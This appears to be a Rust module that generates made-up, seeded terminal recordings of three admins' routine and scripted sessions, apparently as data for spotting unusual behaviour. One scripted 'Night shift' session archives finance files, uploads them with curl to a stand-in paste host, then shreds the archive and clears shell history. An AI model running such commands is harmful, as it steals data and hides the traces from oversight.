//! Made-up terminal sessions of the same people: what they typed and what came back, as asciicast version 2. Pure and seeded.

use jiff::{SignedDuration, Timestamp};
use serde_json::json;

use super::Dice;

/// A recorded session.
pub struct Recorded {
    /// Unique among those of one seed.
    pub id: String,
    /// Who.
    pub user: &'static str,
    /// From where.
    pub client: &'static str,
    /// On what.
    pub server: &'static str,
    /// What it was for.
    pub title: &'static str,
    /// When it began.
    pub started_at: Timestamp,
    /// When it ended.
    pub ended_at: Timestamp,
    /// The recording.
    pub bytes: Vec<u8>,
}

/// What is typed at the prompt and what comes back. A line break in an answer is a new row.
type Step = (&'static str, &'static str);

/// Somebody at a terminal.
#[derive(Clone, Copy)]
struct Who {
    user: &'static str,
    client: &'static str,
    server: &'static str,
    title: &'static str,
    /// The least time between two keys, and how much more it may be: people differ in both.
    key_ms: (u64, u64),
}

/// A piece of somebody's work that is told in full.
struct Work {
    who: Who,
    /// How many days ago it began, and how many minutes after midnight, UTC.
    at: (i64, i64),
    steps: &'static [Step],
}

/// What somebody does on most days.
struct Habit {
    user: &'static str,
    clients: &'static [&'static str],
    /// The commonest first.
    servers: &'static [&'static str],
    title: &'static str,
    key_ms: (u64, u64),
    /// The hour at which the day begins, UTC.
    hour: u64,
    steps: &'static [Step],
}

/// So many days back people have habits; on workdays, and not on each of them.
const HABIT_DAYS: i64 = 32;

const HABITS: &[Habit] = &[
    Habit {
        user: "lena.jansen",
        clients: &["10.20.0.14", "10.20.0.14", "10.20.7.2"],
        servers: &["db1.northwind.example", "db2.northwind.example"],
        title: "Database care",
        key_ms: (62, 60),
        hour: 8,
        steps: &[
            ("uptime", " 09:12:40 up 39 days,  1:02,  1 user,  load average: 1.20, 1.31, 1.18"),
            ("psql orders -c 'select count(*) from orders'", "  count\n---------\n 1251203\n(1 row)"),
            ("psql orders -c 'select now() - pg_last_xact_replay_timestamp()'", " 00:00:00.412\n(1 row)"),
            ("df -h /var/lib/postgresql", "/dev/nvme1n1  1.8T  912G  811G  53% /var/lib/postgresql"),
            ("tail -n 3 /var/log/postgresql/main.log", "LOG:  checkpoint starting: time\nLOG:  checkpoint complete"),
            ("sudo systemctl status postgresql --no-pager", "\x1b[32m●\x1b[0m postgresql.service - active (exited)"),
            ("less /etc/postgresql/16/main/pg_hba.conf", ""),
            ("vacuumdb --analyze --table=orders orders", "vacuumdb: vacuuming database \"orders\""),
        ],
    },
    Habit {
        user: "kofi.garcia",
        clients: &["10.21.3.9"],
        servers: &["web2.northwind.example", "web1.northwind.example"],
        title: "Web servers",
        key_ms: (45, 150),
        hour: 10,
        steps: &[
            ("sudo nginx -t", "nginx: configuration file /etc/nginx/nginx.conf test is \x1b[1msuccessful\x1b[0m"),
            ("git -C /srv/www pull --ff-only", "Already up to date."),
            ("sudo systemctl reload nginx", ""),
            ("curl -sI https://northwind.example | head -1", "HTTP/2 \x1b[32m200\x1b[0m"),
            ("tail -n 2 /var/log/nginx/error.log", ""),
            ("ls --color /srv/www", "\x1b[01;34massets\x1b[0m  index.html  robots.txt"),
            ("openssl x509 -enddate -noout -in /etc/ssl/northwind/live/cert.pem", "notAfter=Dec  4 09:12:44 2026 GMT"),
            ("goaccess /var/log/nginx/access.log --no-color -o /tmp/report.html", ""),
        ],
    },
    Habit {
        user: "hugo.dahl",
        clients: &["10.22.1.40", "10.22.1.41"],
        servers: &["files1.northwind.example", "files1.northwind.example", "backup.northwind.example"],
        title: "File service",
        key_ms: (88, 70),
        hour: 13,
        steps: &[
            ("df -h /srv", "/dev/md0   40T   31T  9.1T  78% /srv"),
            ("sudo quota -u finance", "Disk quotas for user finance: 1.2T of 2T"),
            ("smbstatus --shares", "finance   20418  10.20.4.8   Mon Nov 16 08:02:11"),
            ("sudo mdadm --detail /dev/md0 | grep State", "             State : clean"),
            (
                "rsync -a --stats /srv/projects/ backup:/srv/projects/",
                "Number of files: 91,244\nTotal transferred file size: 1.1G",
            ),
            ("tail -n 2 /var/log/samba/log.smbd", ""),
            ("sudo setfacl -m g:audit:rx /srv/projects/4711", ""),
            ("ls -l /srv/projects | head -3", "total 88\ndrwxr-x--- 7 root staff 4096 Oct  2 11:40 4711"),
        ],
    },
];

const WORK: &[Work] = &[
    Work {
        who: Who {
            user: "lena.jansen",
            client: "10.20.0.14",
            server: "db1.northwind.example",
            title: "Slow orders, ticket 4711",
            key_ms: (62, 60),
        },
        at: (1, 9 * 60 + 5),
        steps: &[
            ("uptime", " 14:02:11 up 41 days,  3:17,  1 user,  load average: 6.21, 5.94, 3.02"),
            (
                "psql orders -c 'select state, count(*) from orders group by state'",
                " state   |  count\n---------+---------\n \x1b[32mshipped\x1b[0m | 1204417\n \x1b[33mopen\x1b[0m    |   48210\n \x1b[31mstuck\x1b[0m   |     312\n(3 rows)",
            ),
            (
                "psql orders -c \"select pid, state, wait_event from pg_stat_activity where wait_event is not null\"",
                "  pid  | state  |  wait_event\n-------+--------+---------------\n 20418 | active | \x1b[31mtransactionid\x1b[0m\n 20431 | active | \x1b[31mtransactionid\x1b[0m\n(2 rows)",
            ),
            ("sudo systemctl restart order-worker", "[sudo] password for lena.jansen: \n"),
            ("systemctl is-active order-worker", "active"),
            ("exit", "logout"),
        ],
    },
    Work {
        who: Who {
            user: "kofi.garcia",
            client: "10.21.3.9",
            server: "web2.northwind.example",
            title: "Certificate renewal",
            key_ms: (45, 150),
        },
        at: (1, 11 * 60 + 20),
        steps: &[
            (
                "ls --color /etc/ssl/northwind",
                "\x1b[01;34marchive\x1b[0m  chain.pem  \x1b[01;36mlive\x1b[0m  privkey.pem",
            ),
            ("openssl x509 -enddate -noout -in /etc/ssl/northwind/live/cert.pem", "notAfter=Dec  4 09:12:44 2026 GMT"),
            ("sudo certbot renew --quiet", ""),
            (
                "sudo nginx -t",
                "nginx: the configuration file /etc/nginx/nginx.conf syntax is ok\nnginx: configuration file /etc/nginx/nginx.conf test is \x1b[1msuccessful\x1b[0m",
            ),
            ("sudo systemctl reload nginx", ""),
            ("curl -sI https://northwind.example | head -1", "HTTP/2 \x1b[32m200\x1b[0m"),
            ("exit", "logout"),
        ],
    },
    Work {
        who: Who {
            user: "hugo.dahl",
            client: "198.51.100.23",
            server: "files1.northwind.example",
            title: "Night shift",
            key_ms: (31, 18),
        },
        at: (2, 3 * 60 + 11),
        steps: &[
            ("whoami", "hugo.dahl"),
            ("find /srv/finance -name '*.xlsx' | wc -l", "1873"),
            ("tar czf /tmp/.cache.tgz /srv/finance/2026", "tar: Removing leading `/' from member names"),
            ("ls -lh /tmp/.cache.tgz", "-rw-r--r-- 1 hugo.dahl staff 2.1G Nov 18 03:11 /tmp/.cache.tgz"),
            (
                "curl -T /tmp/.cache.tgz https://paste.example.biz/u/81x",
                "\x1b[31mcurl: (56) Received HTTP code 403 from proxy after CONNECT\x1b[0m",
            ),
            ("shred -u /tmp/.cache.tgz", ""),
            ("history -c", ""),
            ("exit", "logout"),
        ],
    },
];

const COLUMNS: u16 = 100;
const ROWS: u16 = 28;

/// The sessions that are told in full, the oldest first; each later than all of [`habits`]. One is unlike its user.
pub fn sessions(seed: u64, until: Timestamp) -> Vec<Recorded> {
    let mut dice = Dice::new(seed ^ 0x7465_726d);
    let made = WORK.iter().map(|work| {
        let host = work.who.server.split('.').next().unwrap_or(work.who.server);
        let started_at = on(until, work.at.0, work.at.1);
        recorded(format!("demo-{seed:x}-{host}"), work.who, started_at, work.steps, &mut dice)
    });
    let mut made: Vec<Recorded> = made.collect();
    made.sort_by_key(|one| one.started_at);
    made
}

/// What the same people did on the workdays of the weeks before, the oldest first.
pub fn habits(seed: u64, until: Timestamp) -> Vec<Recorded> {
    let mut dice = Dice::new(seed ^ 0x6861_6269);
    let mut made = Vec::new();
    for days_ago in (4..=HABIT_DAYS).rev() {
        // 1970-01-01 was a Thursday.
        let weekday = (on(until, days_ago, 0).as_second().div_euclid(DAY_S) + 3).rem_euclid(7);
        if weekday >= 5 {
            continue;
        }
        for habit in HABITS {
            if dice.below(10) < 3 {
                continue;
            }
            let minute = habit.hour * 60 + dice.skewed(200);
            let who = Who {
                user: habit.user,
                client: dice.pick::<&str>(habit.clients),
                server: habit.servers[dice.skewed(habit.servers.len() as u64) as usize],
                title: habit.title,
                key_ms: habit.key_ms,
            };
            let mut steps: Vec<Step> = habit.steps.iter().copied().filter(|_| dice.below(4) > 0).collect();
            steps.push(("exit", "logout"));
            let started_at = on(until, days_ago, i64::try_from(minute).unwrap_or(0));
            let id = format!("demo-{seed:x}-{}-{days_ago}", habit.user);
            made.push(recorded(id, who, started_at, &steps, &mut dice));
        }
    }
    made
}

const DAY_S: i64 = 86_400;

/// So many minutes after midnight, UTC, of a day.
fn on(until: Timestamp, days_ago: i64, minutes: i64) -> Timestamp {
    let midnight = until.as_second().div_euclid(DAY_S) - days_ago;
    Timestamp::from_second(midnight * DAY_S + minutes * 60).unwrap_or(until)
}

fn recorded(id: String, who: Who, started_at: Timestamp, steps: &[Step], dice: &mut Dice) -> Recorded {
    let host = who.server.split('.').next().unwrap_or(who.server);
    let prompt = format!("\x1b[1;32m{}@{host}\x1b[0m:\x1b[1;34m~\x1b[0m$ ", who.user);
    let head = json!({
        "version": 2, "width": COLUMNS, "height": ROWS, "timestamp": started_at.as_second(), "title": who.title,
        "env": { "TERM": "xterm-256color", "SHELL": "/bin/bash" }
    });
    let mut lines = vec![head.to_string()];
    let mut at_us: u64 = 400_000;
    let mut put = |at_us: u64, code: &str, text: &str| {
        lines.push(json!([at_us as f64 / 1e6, code, text]).to_string());
    };
    put(at_us, "o", &format!("\x1b]0;{}@{host}: ~\x07Last login: from {}\r\n{prompt}", who.user, who.client));
    for (typed, answer) in steps {
        at_us += 600_000 + 1_000 * dice.below(2_500);
        for character in typed.chars() {
            at_us += 1_000 * (who.key_ms.0 + dice.below(who.key_ms.1));
            put(at_us, "i", &character.to_string());
            put(at_us + 3_000, "o", &character.to_string());
        }
        at_us += 150_000;
        put(at_us, "i", "\r");
        at_us += 30_000 + 1_000 * dice.below(900);
        let shown = answer.replace('\n', "\r\n");
        let end = if answer.is_empty() { "" } else { "\r\n" };
        let next = if *typed == "exit" { "" } else { prompt.as_str() };
        put(at_us, "o", &format!("\r\n{shown}{end}{next}"));
    }
    let bytes = (lines.join("\n") + "\n").into_bytes();
    let length = SignedDuration::from_micros(i64::try_from(at_us).unwrap_or(i64::MAX));
    Recorded {
        id,
        user: who.user,
        client: who.client,
        server: who.server,
        title: who.title,
        started_at,
        ended_at: started_at.checked_add(length).unwrap_or(started_at),
        bytes,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_sessions_and_their_times_rise() {
        let until: Timestamp = "2026-11-21T00:00:00Z".parse().expect("a time");
        let made = sessions(7, until);
        assert_eq!(made.len(), WORK.len());
        let before = habits(7, until);
        assert!(before.windows(2).all(|two| on(two[0].started_at, 0, 0) <= on(two[1].started_at, 0, 0)));
        let last = before.iter().map(|one| one.ended_at).max().expect("there are some");
        assert!(last < made[0].started_at, "habits come before what is told in full");
        for habit in HABITS {
            let count = before.iter().filter(|one| one.user == habit.user).count();
            assert!((8..=20).contains(&count), "{} has {count} sessions; a baseline needs five", habit.user);
        }
        let all = before.iter().chain(&made);
        for (one, again) in all.zip(habits(7, until).iter().chain(&sessions(7, until))) {
            assert_eq!(one.bytes, again.bytes);
            let text = std::str::from_utf8(&one.bytes).expect("JSON is UTF-8");
            let times: Vec<f64> = text
                .lines()
                .skip(1)
                .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON")[0].as_f64().expect("a time"))
                .collect();
            assert!(times.len() > 20 && times.is_sorted(), "{}", one.id);
            assert!(one.started_at < one.ended_at && one.ended_at < until);
        }
    }
}
